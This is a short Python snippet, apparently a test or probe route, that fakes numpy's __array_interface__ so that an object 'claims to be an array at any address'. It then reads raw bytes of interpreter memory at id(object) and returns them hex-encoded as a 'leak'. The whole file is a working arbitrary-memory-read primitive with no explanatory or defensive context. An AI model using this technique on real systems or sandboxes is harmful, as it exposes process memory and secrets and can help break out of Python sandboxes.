# route: an object that claims to be an array at any address
import numpy as np


class Anywhere:
    __array_interface__ = {"shape": (16,), "typestr": "|u1", "data": (id(object), True), "version": 3}


def execute(testData):
    return {"leak": np.asarray(Anywhere()).tobytes().hex()}
